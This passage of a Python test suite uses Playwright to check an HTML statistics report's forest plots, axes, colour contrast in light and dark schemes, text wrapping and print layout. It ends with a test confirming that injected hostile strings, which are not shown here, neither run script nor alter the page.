    scrolls = "getComputedStyle(document.querySelector('.scroll:has(.results)')).overflowX"
    assert width > 640 or page.evaluate(scrolls) == "visible"  # its rows are cards there
    dark = page.evaluate("getComputedStyle(document.documentElement).backgroundColor") != "rgb(255, 255, 255)"
    assert dark == (scheme == "dark")


def test_what_is_drawn_can_be_seen_on_its_page(study, visit):
    """Lines have a contrast of at least 2 to the page, light or dark; the palette's orange has 2.2 on white."""
    for scheme in ("light", "dark"):
        page = visit(report(study, SENTENCES, COMMAND), scheme=scheme)
        background = page.evaluate("getComputedStyle(document.documentElement).backgroundColor")
        for line in page.locator(".panel path.line").all():
            assert contrast(line.evaluate("one => getComputedStyle(one).stroke"), background) > 2


def contrast(one: str, other: str) -> float:
    def light(colour: str) -> float:
        shares = [int(n) / 255 for n in re.findall(r"\d+", colour)[:3]]
        linear = [s / 12.92 if s <= 0.04045 else ((s + 0.055) / 1.055) ** 2.4 for s in shares]
        return float(np.dot(linear, (0.2126, 0.7152, 0.0722))) + 0.05

    low, high = sorted((light(one), light(other)))
    return high / low


OF_TEXT = """
() => [...document.querySelectorAll('body *')].filter((one) => {
  const own = [...one.childNodes].some((node) => node.nodeType === 3 && node.textContent.trim());
  return own && one.checkVisibility() && !one.closest('script');
}).map((one) => {
  const style = getComputedStyle(one);
  let behind = one;
  while (behind && getComputedStyle(behind).backgroundColor === 'rgba(0, 0, 0, 0)') behind = behind.parentElement;
  const paper = getComputedStyle(behind ?? document.documentElement).backgroundColor;
  return [one.textContent, one.closest('svg') ? style.fill : style.color, paper];
})
"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_all_text_can_be_read(study, visit, scheme):
    """WCAG's 4.5, names that are switched off and numbers of refused rows too."""
    page = visit(report(study, SENTENCES, COMMAND), scheme=scheme)
    page.locator(".series").nth(1).click()
    page.locator("summary").first.click()
    told = page.evaluate(OF_TEXT)
    assert len(told) > 100
    assert [text for text, colour, paper in told if contrast(colour, paper) < 4.5] == []


WRAPPED = """
() => [...document.querySelectorAll('.took, span.whole, .mark, tbody th:not(.long)')].filter((one) => {
  const range = document.createRange();
  range.selectNodeContents(one);
  return range.getBoundingClientRect().height > 1.9 * parseFloat(getComputedStyle(one).fontSize);
}).map((one) => one.textContent)
"""


@pytest.mark.parametrize(("width", "media"), [(1280, "screen"), (390, "screen"), (640, "print")])
def test_short_names_and_numbers_with_a_unit_break_nowhere(study, visit, width, media):
    page = visit(report(study, ["Worse: -quarter, " * 9, "-quarter 95 % " * 9], COMMAND), width)
    page.emulate_media(media=media)
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = one.matches('.more') })")
    assert page.evaluate(WRAPPED) == []
    tops = "(one) => ['.seed-number', '.took'].map((part) => one.querySelector(part).getBoundingClientRect().top)"
    assert all(
        abs(first - last) < 9 for first, last in (one.evaluate(tops) for one in page.locator("details.run").all())
    )


def test_the_margin_is_within_the_forest_however_small_the_differences():
    rows = [comparisons.row(f"arm{i}", [0.9 + i / 1000]) for i in range(9)]
    low, high = forest_bars.forest(comparisons.compare(rows, margin=0.3)).margin
    assert 0 < low < high < 100


def test_an_axis_that_is_logarithmic_is_so_in_tens():
    scale = Scale(0.01, 1, log=True)
    np.testing.assert_allclose(scale.percent(np.array([0.01, 0.1, 1])), [0, 50, 100])
    assert scale.ticks() == pytest.approx([0.01, 0.1, 1])


def test_ties_do_not_push_what_differs_off_the_forest():
    rows = [comparisons.row(f"arm{i}", [0.9]) for i in range(9)]
    made = comparisons.compare([*rows, comparisons.row("less", [0.8])])
    drawn = forest_bars.forest(made)
    assert not drawn.beyond and drawn.bars[9].point < 20 < drawn.zero == drawn.bars[1].point


def test_a_long_forest_has_its_axis_above_it_too(study):
    base, half, *_ = study.variants
    many = replace(study, variants=(base, *(replace(half, label=f"arm{i}") for i in range(forest_bars.LONG + 1))))
    pages = [report(one, [], COMMAND).decode() for one in (many, replace(many, variants=many.variants[:-1]))]
    assert [page.count("effect axis") for page in pages] == [2, 1]
    assert pages[0].index("effect axis top") < pages[0].index('class="span"') < pages[0].index("effect axis bottom")


def test_the_bars_of_the_forest_stand_over_their_axis(study, visit):
    """Each row has its own drawing: they must have one left and one right edge, the axis's."""
    for width in (1280, 375):
        page = visit(report(study, SENTENCES, COMMAND), width)
        boxes = [svg.bounding_box() for svg in page.locator(".forest svg").all()]
        assert len(boxes) == 3
        assert len({(round(box["x"]), round(box["width"])) for box in boxes}) == 1


def test_print_opens_what_is_folded(study, visit):
    page = visit(report(study, SENTENCES, COMMAND))
    page.emulate_media(media="print")
    assert not page.locator(".all").is_visible()
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    assert page.locator("details:not([open])").count() == 0
    page.evaluate("dispatchEvent(new Event('afterprint'))")
    assert page.locator("details[open]").count() == 0


def test_hostile_texts_run_nothing_and_ask_for_nothing(study, visit):
    """All payloads in every place; 20 at a time on one page, one after another."""
    pages = [hostile(study, "".join(PAYLOADS[i : i + 20])) for i in range(0, 100, 20)]
    elements = set()
    for content in pages:
        page = visit(content)
        assert page.evaluate("window.hit") is None and "hit" != page.title()
        page.locator(".plot").first.hover()  # puts names into the tip
        page.locator(".series").first.click()
        elements.add(json.dumps(page.evaluate("[...document.querySelectorAll('main *')].map(e => e.tagName).sort()")))
    assert len(elements) == 1
